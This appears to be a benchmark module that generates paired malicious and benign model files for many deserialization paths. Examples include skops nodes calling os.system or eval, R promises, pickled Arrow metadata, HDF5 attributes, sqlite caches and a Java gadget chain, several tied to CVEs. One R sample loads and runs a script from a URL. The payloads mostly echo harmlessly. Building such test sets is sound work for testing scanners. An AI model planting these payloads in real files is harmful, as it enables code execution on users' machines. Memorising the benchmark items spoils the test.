"""Attacks by loading paths: skops, R, Arrow extensions, msgpack-numpy, PyTables and pickles in values of tables."""

from __future__ import annotations

import base64
import gzip
import io
import json
import sqlite3
import struct
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from bench.modelfiles.heldout.opcodes import SYSTEM, WEIGHTS, call, dict_of, done, list_of, name, object_array
from bench.modelfiles.heldout.parts import (
    GLOBAL,
    NIL,
    R_HEAD,
    hdf5,
    r_bytecode,
    r_call,
    r_list,
    r_promise,
    r_reals,
    r_symbol,
    r_text,
    tarred,
    zipped,
)
from bench.modelfiles.heldout.sample import Group, Sample

group = Group("loading paths")
EVIL = done(SYSTEM)
PLAIN = done(call("collections:OrderedDict"))
Node = dict[str, Any]


def skops(content: Node) -> bytes:
    """Return a skops file."""
    return zipped({"schema.json": {**content, "protocol": 2, "_skops_version": "0.13.0"}})


def node(loader: str, module: str, what: str, **content: Any) -> Node:
    """Return a node of a skops schema."""
    return {"__class__": what, "__module__": module, "__loader__": loader, "__id__": 1, **content}


def constant(value: object) -> Node:
    """Return a node of JSON."""
    return node("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def skops_files() -> Iterator[Sample]:
    """Yield skops files, one for each kind of node."""
    loaded = "skops.io.load with trusted types that the user copies from get_untrusted_types"
    method = node(
        "MethodNode",
        "sklearn.linear_model",
        "LogisticRegression",
        content={"func": "system", "obj": node("ObjectNode", "os", "__class__", content=None)},
    )
    good = node(
        "MethodNode",
        "sklearn.linear_model",
        "LogisticRegression",
        content={"func": "predict", "obj": node("ObjectNode", "sklearn.linear_model", "LogisticRegression", content=None)},
    )
    inner = zipped({"schema.json": node("NdArrayNode", "numpy", "ndarray", type="numpy", file="1.npy"), "1.npy": object_array(EVIL)})
    plain = zipped(
        {
            "schema.json": node("NdArrayNode", "numpy", "ndarray", type="numpy", file="1.npy"),
            "1.npy": b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + bytes(8),
        }
    )
    yield from group.pairs(
        ("function-node", "f.skops", skops(node("FunctionNode", "os", "function", content={"module_path": "os", "function": "system"})),
         skops(node("FunctionNode", "numpy", "function", content={"module_path": "numpy", "function": "log1p"})),
         f"{loaded} returns os.system as a part of a pipeline"),
        ("reduce-node", "r.skops",
         skops(node("ReduceNode", "builtins", "eval", content={"reduce": [constant("__import__('os')")]}, constructor=node("TypeNode", "builtins", "eval"))),
         skops(node("ReduceNode", "sklearn.tree._tree", "Tree", content={"reduce": [constant(4)]}, constructor=node("TypeNode", "sklearn.tree._tree",
             "Tree"))), f"{loaded}; a reduce calls eval"),
        ("operator-mismatch", "o.skops",
         skops(node("OperatorFuncNode", "operator", "methodcaller", attrs=node("TupleNode", "builtins", "tuple", content=[constant("system"),
             constant("echo")]))),
         skops(node("OperatorFuncNode", "operator", "itemgetter", attrs=node("TupleNode", "builtins", "tuple", content=[constant(0)]))),
         "the type that is shown differs from what is called (CVE-2025-54413)"),
        ("method-node", "m.skops", skops(method), skops(good), "a method of any object is taken, and its type is not shown (CVE-2025-54412)"),
        ("object-node", "b.skops", skops(node("ObjectNode", "subprocess", "Popen", content={"args": constant("echo")})),
         skops(node("ObjectNode", "sklearn.svm", "SVC", content={"C": constant(1)})), f"{loaded} constructs Popen"),
        ("partial-node", "p.skops",
         skops(node("PartialNode", "functools", "partial", content={"func": node("FunctionNode", "os", "popen"), "args": constant(["echo"])})),
         skops(node("PartialNode", "functools", "partial", content={"func": node("FunctionNode", "numpy", "mean"), "args": constant([0])})),
         f"{loaded}; a partial of os.popen"),
        ("type-node", "t.skops", skops(node("DictNode", "builtins", "dict", content={"k": node("TypeNode", "ctypes", "CDLL")})),
         skops(node("DictNode", "builtins", "dict", content={"k": node("TypeNode", "numpy", "float64")})), f"{loaded} imports ctypes"),
        ("not-a-zip", "card.skops", done(SYSTEM, 3), skops(constant("a")),
         "skops.card's get_model falls back to joblib for a file that is not a zip (CVE-2025-54886)"),
        ("object-array", "array.skops", inner, plain, "the array holds pickled objects"),
    )  # fmt: skip


def r_files() -> Iterator[Sample]:
    """Yield files of R."""
    evil, plain = r_call("system", r_text("echo harmless")), r_call("mean", r_reals(1, 2))
    data = r_reals(1.5, 2.5)

    def rda(value: bytes) -> bytes:
        return b"RDX2\n" + R_HEAD + r_list(("model", value))

    def closure(body: bytes) -> bytes:
        return struct.pack(">i", 3 | 0x400) + GLOBAL + NIL + body

    hidden = struct.pack(">ii", 0x20E, 1) + struct.pack(">d", 1.0) + r_list(("row.names", r_promise(evil)))
    shown = struct.pack(">ii", 0x20E, 1) + struct.pack(">d", 1.0) + r_list(("row.names", r_text("a")))
    text = "A\n2\n263168\n131840\n{}"
    formula = r_list(("call", plain), ("terms", r_symbol("y")))
    yield from group.pairs(
        ("rds-promise", "model.rds", gzip.compress(R_HEAD + r_promise(evil), mtime=0), gzip.compress(R_HEAD + data, mtime=0),
         "readRDS, and a look at the value evaluates the promise (CVE-2024-27322)"),
        ("rda-promise", "model.rda", rda(r_promise(evil)), rda(data), "load binds a name to the promise, and its use evaluates it"),
        ("rds-bytecode", "predict.rds", R_HEAD + closure(r_bytecode("system", r_text("echo"))), R_HEAD + closure(r_bytecode("mean", data)),
         "a closure of bytecode that the model's user calls by its class's method"),
        ("rds-attribute", "frame.rds", gzip.compress(R_HEAD + hidden, mtime=0), gzip.compress(R_HEAD + shown, mtime=0),
         "readRDS, and print evaluates the attribute"),
        ("rds-ascii", "ascii.rds", text.format("1029\n253\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n4\necho\n254\n"), text.format("14\n2\n1.5\n2.5\n"),
         "readRDS of the text form, with a promise"),
        ("rdata-active", "fit.RData", rda(r_list(("call", plain), ("fit", r_promise(r_call("source", r_text("http://example.com/x.R")))))), rda(formula),
         "load, and a look at `fit` runs a script from a URL"),
    )  # fmt: skip


def _arrow(value: Any, kind: str, extension: str, metadata: bytes) -> bytes:
    import pyarrow as pa
    import pyarrow.feather
    import pyarrow.parquet as pq

    field = pa.field(
        "x",
        value.type,
        metadata={b"ARROW:extension:name": extension.encode(), b"ARROW:extension:metadata": metadata} if extension else None,
    )
    table, out = pa.table([value], schema=pa.schema([field])), io.BytesIO()
    pq.write_table(table, out) if kind == "parquet" else pyarrow.feather.write_feather(table, out, compression="uncompressed")
    return out.getvalue()


def arrow_files() -> Iterator[Sample]:
    """Yield extension types with pickled metadata, and columns with pickles."""
    import pyarrow as pa

    numbers = pa.array([1, 2], pa.int32())
    was = "PyArrow before 14.0.1 unpickles the metadata of arrow.py_extension_type (CVE-2023-47248)"
    for kind, file in (("parquet", "train.parquet"), ("feather", "train.feather")):
        yield from group.pair(
            f"py-extension-{kind}",
            file,
            _arrow(numbers, kind, "arrow.py_extension_type", EVIL),
            _arrow(numbers, kind, "geoarrow.wkb", b'{"crs": "EPSG:4326"}'),
            was,
        )

    def objects(data: bytes) -> Any:
        return pa.array([data, data], pa.large_binary())

    coded = [pa.array([base64.b64encode(one).decode()]) for one in (EVIL, PLAIN)]
    yield from group.pairs(
        ("ray-tensor", "blocks.parquet", _arrow(numbers, "parquet", "ray.data.arrow_variable_shaped_tensor", done(call("builtins:eval", "1"))),
         _arrow(numbers, "parquet", "ray.data.arrow_tensor_v2", b"[2, 2]"), "Ray Data unpickles the metadata of its tensor types"),
        ("ray-objects", "rows.parquet", _arrow(objects(EVIL), "parquet", "ray.data.arrow_pickled_object", b""),
         _arrow(objects(b"\x89PNG\r\n\x1a\n" + bytes(20)), "parquet", "", b""), "Ray Data unpickles the values of the column"),
        ("binary-column", "features.parquet", _arrow(pa.array([EVIL]), "parquet", "", b""), _arrow(pa.array([PLAIN]), "parquet", "", b""),
         "programs that store objects in binary columns unpickle them"),
        ("base64-column", "features.feather", _arrow(coded[0], "feather", "", b""), _arrow(coded[1], "feather", "", b""),
         "programs decode the text and unpickle it"),
    )  # fmt: skip


def hdf5_files() -> Iterator[Sample]:
    """Yield files as PyTables and pandas write them."""
    import numpy as np

    def attribute(data: bytes) -> bytes:
        def write(file: Any) -> None:
            array = file.create_dataset("data", data=[1.0, 2.0])
            array.attrs.update(
                {"CLASS": np.bytes_("ARRAY"), "VERSION": np.bytes_("2.4"), "FLAVOR": np.bytes_("numpy"), "info": np.bytes_(data)}
            )
            file.attrs.update({"CLASS": np.bytes_("GROUP"), "PYTABLES_FORMAT_VERSION": np.bytes_("2.1"), "TITLE": np.bytes_("")})

        return hdf5(write)

    def rows(data: bytes) -> bytes:
        def write(file: Any) -> None:
            import h5py

            array = file.create_dataset("block0_values", (1,), dtype=h5py.vlen_dtype(np.uint8))
            array[0] = np.frombuffer(data, np.uint8)
            array.attrs.update({"CLASS": np.bytes_("VLARRAY"), "PSEUDOATOM": np.bytes_("object"), "VERSION": np.bytes_("1.4")})

        return hdf5(write)

    yield from group.pairs(
        ("tables-attribute", "store.h5", attribute(b"cos\nsystem\n(S'echo harmless'\ntR."), attribute(done(b"(lI1\naI2\na", 0)),
         "PyTables unpickles an attribute when it is read"),
        ("tables-objects", "frame.h5", rows(EVIL), rows(done(b"](K\x01K\x02e")), "pandas.read_hdf unpickles a block of objects"),
    )  # fmt: skip


def _database(table: str, column: str, value: object) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.db"
        with sqlite3.connect(path) as base:
            base.execute(f"CREATE TABLE {table} (key TEXT, type TEXT, mode INTEGER, {column} BLOB)")  # constants
            base.execute(f"INSERT INTO {table} VALUES ('k', 'pickle', 4, ?)", (value,))  # noqa: S608
        base.close()
        return path.read_bytes()


def values() -> Iterator[Sample]:
    """Yield pickles in rows, texts and members of other formats."""
    import msgpack  # type: ignore[import-untyped]

    def array(kind: str, data: bytes) -> dict[bytes, Any]:
        return {b"nd": True, b"type": kind, b"kind": b"O" if kind == "|O" else b"", b"shape": [1], b"data": data}

    langgraph = (
        {"lc": 2, "type": "constructor", "id": ["os", "system"], "args": ["echo harmless"]},
        {"lc": 2, "type": "constructor", "id": ["langchain_core", "messages", "HumanMessage"], "kwargs": {"content": "hi"}},
    )
    baselines = [
        {"policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": base64.b64encode(one).decode()}, "gamma": 0.99}
        for one in (EVIL, done(name("stable_baselines3.common.policies:ActorCriticPolicy")))
    ]
    zarr = {"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "compressor": None, "fill_value": None, "order": "C"}
    java = b"\xac\xed\x00\x05sr\x00" + bytes([len(_GADGET)])
    yield from group.pairs(
        ("msgpack-numpy", "weights.msgpack", msgpack.packb({"w": array("|O", EVIL)}), msgpack.packb({"w": array("<f8", bytes(8))}),
         "msgpack_numpy.decode unpickles an array of objects"),
        ("csv-hex", "cache.csv", f"id,object\n1,{EVIL.hex()}\n", f"id,object\n1,{PLAIN.hex()}\n", "programs decode the hexadecimal text and unpickle it"),
        ("jsonl-base64", "replay.jsonl", json.dumps({"obs": base64.b64encode(EVIL).decode()}) + "\n",
         json.dumps({"obs": base64.b64encode(PLAIN).decode()}) + "\n", "programs decode the text and unpickle it"),
        ("sqlite-cache", "cache.db", _database("Cache", "value", EVIL), _database("Cache", "value", WEIGHTS), "diskcache unpickles values of mode 4"),
        ("sqlite-checkpoint", "graph.sqlite", _database("checkpoints", "checkpoint", json.dumps(langgraph[0])),
         _database("checkpoints", "checkpoint", json.dumps(langgraph[1])), "LangGraph's JsonPlusSerializer calls what `id` names (CVE-2025-64439)"),
        ("stable-baselines", "ppo.zip", zipped({"data": baselines[0], "_stable_baselines3_version": "2.6.0"}),
         zipped({"data": baselines[1], "_stable_baselines3_version": "2.6.0"}), "PPO.load unpickles the values of `data`"),
        ("zarr-objects", "store.zarr.zip", zipped({"x/.zarray": {**zarr, "filters": [{"id": "pickle", "protocol": 4}]}, "x/0": EVIL}),
         zipped({"x/.zarray": {**zarr, "filters": [{"id": "vlen-utf8"}]}, "x/0": struct.pack("<II", 1, 2) + b"ab"}),
         "zarr decodes chunks with the codec `pickle`"),
        ("webdataset", "shard-000.tar", tarred({"0001.txt": "a", "0001.pyd": EVIL}), tarred({"0001.txt": "a", "0001.pyd": PLAIN}),
         "WebDataset unpickles members named .pyd"),
        ("shelve", "memo.dat", EVIL + bytes(512 - len(EVIL)) + done(dict_of(a=1)), WEIGHTS + bytes(512 - len(WEIGHTS)) + done(dict_of(a=1)),
         "shelve on dbm.dumb unpickles the records"),
        ("tensordict", "memmap.zip", zipped({"meta.json": {"a": {"type": "other"}}, "other.pickle": EVIL}),
         zipped({"meta.json": {"a": {"type": "other"}}, "other.pickle": PLAIN}), "TensorDict.load_memmap unpickles what is not a tensor"),
        ("java", "weka.model", java + _GADGET + bytes(8) + b"\x02\x00\x00xpt\x00\x04exec",
         b"\xac\xed\x00\x05sr\x00" + bytes([len(_WEKA)]) + _WEKA + bytes(8) + b"\x02\x00\x00xpt\x00\x04tree",
         "Weka's SerializationHelper deserializes a chain of gadgets"),
        ("state-cache", "index.pkl", done(call(call("builtins:getattr", name("posixpath:os"), "system"), "echo")),
         done(call(call("builtins:getattr", name("collections:OrderedDict"), "fromkeys"), list_of("a"))),
         "LangChain's FAISS.load_local unpickles index.pkl, which reaches os through another module"),
    )  # fmt: skip


_GADGET = b"org.apache.commons.collections.functors.InvokerTransformer"
_WEKA = b"weka.classifiers.trees.J48"


def samples() -> Iterator[Sample]:
    """Yield the samples of this class."""
    yield from (*skops_files(), *r_files(), *arrow_files(), *hdf5_files(), *values())
